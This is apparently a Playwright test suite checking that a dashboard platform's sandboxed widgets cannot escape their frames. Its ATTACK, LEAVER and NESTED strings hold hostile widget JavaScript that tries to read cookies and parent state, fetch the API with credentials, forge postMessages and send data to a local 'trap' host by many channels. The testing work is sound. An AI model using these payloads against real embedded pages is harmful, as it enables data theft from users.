"""Shares and their widgets in a real Chromium: what is shown, and what a widget of a stranger cannot do."""

import asyncio
import contextlib
import json
import socket

import pytest
from playwright.async_api import Error

from tests.live.conftest import CLOCK, CONFIG, PAGE
from tests.support import until
from tests.workspaces.browser import SCREENSHOTS, VIEWPORT, chromium_browser

ATTACK = """<!doctype html><script src="/lib/cloister.js"></script><body>nothing yet</body><script>
const trap = "http://trap.localhost:TRAP", home = "HOME";
const tried = {};
const attempt = async (name, f) => {
  try { const got = await Promise.race([f(), new Promise((_, no) => setTimeout(() => no(Error("no answer")), 1500))]);
        tried[name] = "DONE " + String(got).slice(0, 60); }
  catch (error) { tried[name] = "refused"; }
};
const loaded = (element, attribute, to) => new Promise((yes, no) => {
  element.onload = yes; element.onerror = no; element[attribute] = to; document.head.append(element);
});
(async () => {
  await attempt("parent's document", () => parent.document.title);
  await attempt("parent's storage", () => parent.localStorage.length);
  await attempt("top's address", () => top.location.href);
  await attempt("another widget", () => parent.frames[0].document.title);
  await attempt("read cookies", () => document.cookie);
  await attempt("set a cookie", () => { document.cookie = "a=1"; });
  await attempt("local storage", () => localStorage.length);
  await attempt("session storage", () => sessionStorage.length);
  await attempt("indexed databases", () => indexedDB.open("a"));
  await attempt("caches", () => caches.keys());
  await attempt("service worker", () => navigator.serviceWorker.register("/lib/cloister.js"));
  await attempt("fetch", () => fetch(trap));
  await attempt("fetch without asking", () => fetch(trap, { mode: "no-cors" }));
  await attempt("fetch the platform", () => fetch(home + "/api/v1/people/me", { credentials: "include" }));
  await attempt("fetch its own origin", () => fetch("/lib/cloister.js"));
  await attempt("XMLHttpRequest", () => new Promise((yes, no) => {
    const asked = new XMLHttpRequest(); asked.onload = yes; asked.onerror = no; asked.open("GET", trap); asked.send(); }));
  await attempt("WebSocket", () => new Promise((yes, no) => {
    const socket = new WebSocket(trap.replace("http", "ws")); socket.onopen = yes; socket.onerror = no; }));
  await attempt("events", () => new Promise((yes, no) => {
    const events = new EventSource(trap); events.onopen = yes; events.onerror = no; }));
  await attempt("WebRTC", async () => { CALL; throw Error("the trap tells"); });
  await attempt("image", () => loaded(new Image(), "src", trap + "/image"));
  await attempt("script", () => loaded(document.createElement("script"), "src", trap + "/script"));
  await attempt("import", () => import(trap + "/module.js"));
  await attempt("style", () => { const link = document.createElement("link"); link.rel = "stylesheet";
    return loaded(link, "href", trap + "/style"); });
  await attempt("prefetch", () => { const link = document.createElement("link"); link.rel = "prefetch";
    return loaded(link, "href", trap + "/prefetch"); });
  await attempt("frame", () => new Promise((yes, no) => { const frame = document.createElement("iframe");
    frame.src = trap + "/frame"; frame.onload = () => setTimeout(no, 300); document.body.append(frame); }));
  await attempt("worker", () => new Promise((yes, no) => { const worker = new Worker(URL.createObjectURL(
    new Blob(["postMessage(1)"]))); worker.onmessage = yes; worker.onerror = no; }));
  await attempt("form", () => new Promise((yes, no) => { const form = document.createElement("form");
    form.action = trap + "/form"; form.method = "POST"; document.body.append(form); form.submit(); setTimeout(no, 500); }));
  await attempt("popup", () => { if (!window.open(trap + "/popup")) throw Error("none"); });
  await attempt("a link's popup", () => new Promise((yes, no) => { const link = document.createElement("a");
    link.href = trap + "/link"; link.target = "_blank"; document.body.append(link); link.click(); setTimeout(no, 500); }));
  await attempt("a dialog", () => { alert("pay here"); throw Error("silent"); });
  await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
  await attempt("top navigation", () => { top.location = trap + "/top"; });
  await attempt("top navigation by a link", () => new Promise((yes, no) => { const link = document.createElement("a");
    link.href = trap + "/top-link"; link.target = "_top"; document.body.append(link); link.click(); setTimeout(no, 500); }));
  navigator.sendBeacon(trap + "/beacon", "a");
  const { port1, port2 } = new MessageChannel();
  parent.postMessage({ cloister: 1 }, "*", [port2]);
  port1.onmessage = () => { tried["a second channel"] = "DONE"; };
  for (let i = 0; i < parent.frames.length; i += 1) parent.frames[i].postMessage({ data: "forged", config: "forged" }, "*");
  parent.postMessage({ type: "TERMINATE", reason: "forged" }, "*");
  await new Promise((yes) => setTimeout(yes, 300));
  document.body.textContent = JSON.stringify(tried);
})();
</script>"""
CALL = """const call = new RTCPeerConnection({ iceServers: [{ urls: "stun:ADDRESS:TRAP" }] });
call.createDataChannel("a"); await call.setLocalDescription(await call.createOffer());"""
NESTED = """<!doctype html><script src="/lib/cloister.js"></script><body></body><script>
const inner = document.createElement("iframe");
inner.srcdoc = `<script>(async () => { CALL })()</${"script"}>`;
document.body.append(inner);
</script>"""
LEAVER = """<!doctype html><script src="/lib/cloister.js"></script><script>
cloister.onDataChanged((d) => { location = "http://trap.localhost:TRAP/leave?" + encodeURIComponent(JSON.stringify(d)); });
</script>"""
LOOP = """<!doctype html><script src="/lib/cloister.js"></script><script>setTimeout(() => { for (;;) {} }, 500);</script>"""
BIG = """<!doctype html><script src="/lib/cloister.js"></script>
<style>body{margin:0;display:grid;place-items:center;height:100vh;font:600 3rem system-ui;color:#0b5394}</style><b>–</b><script>
cloister.onDataChanged((d) => { document.querySelector("b").textContent = d ?? "–"; });</script>"""


def filled(page, port, home=""):
    here = socket.gethostbyname(socket.gethostname())
    for name, value in {"CALL": CALL, "TRAP": str(port), "HOME": home, "ADDRESS": here}.items():
        page = page.replace(name, value)
    return page


@contextlib.asynccontextmanager
async def trap():
    """A server that keeps what anybody asks of it, by TCP and by UDP."""
    heard = []

    class Datagrams(asyncio.DatagramProtocol):
        def datagram_received(self, data, address):
            heard.append(data)

    async def hear(reader, writer):
        heard.append(await reader.read(200))
        writer.close()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    datagrams, _ = await asyncio.get_running_loop().create_datagram_endpoint(Datagrams, local_addr=("0.0.0.0", port))
    try:
        yield port, heard
    finally:
        datagrams.close()
        server.close()


async def share(client, board, **options):
    made = await client.post(f"/spaces/cup/dashboards/{board['id']}/shares", json=options)
    assert made.status_code == 201, made.text
    return made.json()


async def publish_widget(studio, client, name, page):
    assert (await studio.publish(client, name, {"index.html": page}))["state"] == "ready"


def widget(name, module, x=0, path=None, **extra):
    source = None if path is None else {"integration": "clock", "path": path}
    return {"id": name, "module": module, "title": name, "x": x, "y": 0, "width": 6, "height": 5, "source": source, **extra}  # fmt: skip


@pytest.fixture
async def page():
    async with chromium_browser() as browser:
        context = await browser.new_context(viewport=VIEWPORT)
        yield await context.new_page()


@pytest.mark.parametrize("where", ["on a share", "in the builder"])
async def test_a_strangers_widget_can_do_nothing_but_draw(studio, page, where):
    ada = await studio.person("ada")
    home = f"http://localhost:{studio.port}"
    async with trap() as (port, heard):
        attack = filled(ATTACK, port, home)
        await studio.publish(ada, "clock", {"main.py": CLOCK, "config.json": CONFIG})
        await publish_widget(studio, ada, "page", PAGE)
        await publish_widget(studio, ada, "attack", attack)
        await publish_widget(studio, ada, "leaver", filled(LEAVER, port))
        board = await studio.dashboard(
            ada,
            [{"id": "clock", "module": "clock", "values": {"place": "Lisbon"}}],
            [
                widget("sibling", "page", 0, ["place"]),
                widget("attack", "attack", 6, ["n"]),
                widget("leaver", "leaver", 12, ["n"]),
            ],
        )
        if where == "on a share":
            shown = (await share(ada, board))["link"]
        else:  # where the session's cookie is
            shown = f"{home}/s/cup/dashboards/{board['id']}?edit"
            await page.context.add_cookies([{"name": n, "value": v, "url": home} for n, v in ada.cookies.items()])
        popups, dialogs = [], []
        page.context.on("page", lambda opened: popups.append(opened.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), asyncio.ensure_future(dialog.dismiss())))
        await page.goto(f"{home}/health/live")
        await page.goto(shown)

        async def reported():
            for frame in page.frames:
                with contextlib.suppress(Exception):  # a frame that is being replaced
                    text = await frame.evaluate("document.body.textContent")
                    if text.startswith('{"parent'):
                        return json.loads(text)
            return None

        tried = await until(reported, 60, 0.2)
        done = {name: said for name, said in tried.items() if said.startswith("DONE")}
        assert done == {}
        assert len(tried) > 30
        await page.locator("section", has_text="sibling").wait_for()
        sibling = await until(lambda: _text(page, '"Lisbon"'), 20, 0.1)
        assert sibling == '"Lisbon"', "forged messages change nothing"
        assert page.url == shown
        if where == "on a share":
            assert await page.locator("#word").text_content() == ""
        else:
            assert await page.get_by_text("forged").count() == 0
        assert heard == [], "nothing of it came out"
        assert (popups, dialogs) == ([], [])


async def _text(page, wanted):
    for frame in page.frames[1:]:
        with contextlib.suppress(Exception):  # a frame that is being replaced
            if await frame.evaluate("document.body.textContent") == wanted:
                return wanted
    return None


VISUALBOX = """<body></body><script>
visualbox.onConfigChanged((c) => { document.title = c.colour; });
visualbox.onDataChanged((d) => {
  document.body.textContent = [d, visualbox.data, visualbox.config.colour, document.title].join(" ");
});</script>"""


async def test_a_widget_written_for_the_other_name_runs_unchanged(studio, page):
    ada = await studio.person("ada")
    await studio.publish(ada, "clock", {"main.py": CLOCK, "config.json": CONFIG})
    colour = [{"type": "color", "name": "colour", "label": "Colour", "default": "#112233"}]
    assert (await studio.publish(ada, "old", {"index.html": VISUALBOX, "config.json": colour}))["state"] == "ready"
    integrations = [{"id": "clock", "module": "clock", "values": {"place": "Lisbon"}}]
    board = await studio.dashboard(ada, integrations, [widget("w1", "old", 0, ["place"])])
    await page.goto((await share(ada, board))["link"])
    assert await until(lambda: _text(page, "Lisbon Lisbon #112233 #112233"), 20, 0.1)


async def test_a_widget_that_calls_out_from_a_frame_of_its_own_reaches_nobody(studio, page):
    """Chromium ends the frame for it; the page that shows it goes on."""
    ada = await studio.person("ada")
    async with trap() as (port, heard):
        await publish_widget(studio, ada, "nested", filled(NESTED, port))
        board = await studio.dashboard(ada, [], [widget("nested", "nested")])
        cdp = await page.context.new_cdp_session(page)
        with contextlib.suppress(Error):  # the driver takes the end of a frame for the end of the page
            await page.goto((await share(ada, board))["link"])
            await page.locator("section", has_text="This widget does not answer").wait_for(timeout=30_000)
        alive = await cdp.send("Runtime.evaluate", {"expression": "1 + 1"})
        assert alive["result"]["value"] == 2
        assert heard == []


async def test_an_endless_widget_stops_neither_the_page_nor_what_it_says(studio, page):
    ada = await studio.person("ada")
    await publish_widget(studio, ada, "loop", LOOP)
    board = await studio.dashboard(ada, [], [widget("loop", "loop")])
    await page.goto((await share(ada, board))["link"])
    await page.locator("section", has_text="This widget does not answer").wait_for(timeout=30_000)
    assert await page.evaluate("1 + 1") == 2


async def test_a_share_asks_for_its_passphrase_shows_what_is_drawn_and_says_when_it_is_paused(studio, page):
    ada = await studio.person("ada")
    await studio.publish(ada, "clock", {"main.py": CLOCK, "config.json": CONFIG})
    await publish_widget(studio, ada, "big", BIG)
    board = await studio.dashboard(
        ada,
        [{"id": "clock", "module": "clock", "values": {"place": "Lisbon", "key": "s3cret-of-ada"}}],
        [widget("Where", "big", 0, ["place"]), widget("HowMany", "big", 6, ["n"])],
        name="A clock for all",
    )
    made = await share(ada, board, passphrase="open sesame")
    said = []
    page.on("websocket", lambda socket: socket.on("framereceived", lambda frame: said.append(frame)))
    await page.goto(made["link"])
    await page.get_by_label("This link has a passphrase").fill("open says me")
    await page.get_by_role("button", name="Show").click()
    await page.get_by_text("That is not the passphrase.").wait_for()
    await page.get_by_label("This link has a passphrase").fill("open sesame")
    await page.get_by_role("button", name="Show").click()
    assert await until(lambda: _shows(page, "Lisbon"), 30, 0.1)
    await page.screenshot(path=SCREENSHOTS / "share.png")
    content = await page.content() + json.dumps([str(frame) for frame in said])
    for secret in ("s3cret-of-ada", board["id"], '"clock"', "main.py"):
        assert secret not in content
    paused = await ada.put(f"/spaces/cup/shares/{made['id']}/pause", json={"paused": True})
    assert paused.status_code == 200, paused.text
    await page.locator("#word", has_text="paused").wait_for()


async def _shows(page, wanted):
    for frame in page.frames[1:]:
        with contextlib.suppress(Exception):  # a frame that is being replaced
            if wanted in await frame.evaluate("document.body.innerText"):
                return True
    return None


async def test_a_share_is_embedded_where_it_says_and_nowhere_else(studio, page):
    ada = await studio.person("ada")
    await studio.publish(ada, "clock", {"main.py": CLOCK, "config.json": CONFIG})
    await publish_widget(studio, ada, "page", PAGE)
    integrations = [{"id": "clock", "module": "clock", "values": {"place": "Lisbon"}}]
    board = await studio.dashboard(ada, integrations, [widget("w1", "page", 0, ["place"])])
    links = []

    async def answer(reader, writer):
        await reader.readuntil(b"\r\n\r\n")
        body = "".join(f'<iframe src="{link}" width="600" height="400"></iframe>' for link in links).encode()
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n" + body)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    origin = f"http://blog.localhost:{server.sockets[0].getsockname()[1]}"
    allowed, other = await share(ada, board, origins=[origin]), await share(ada, board)
    try:
        links[:] = [allowed["link"]]
        await page.goto(origin)
        assert await until(lambda: _text(page, '"Lisbon"'), 20, 0.1), "the widget in it is drawn, too"
        links[:] = [other["link"]]
        await page.goto(origin)
        await page.wait_for_load_state("networkidle")
        assert not any("/w/" in frame.url for frame in page.frames)
        assert await page.frames[1].locator("#name").count() == 0
    finally:
        server.close()
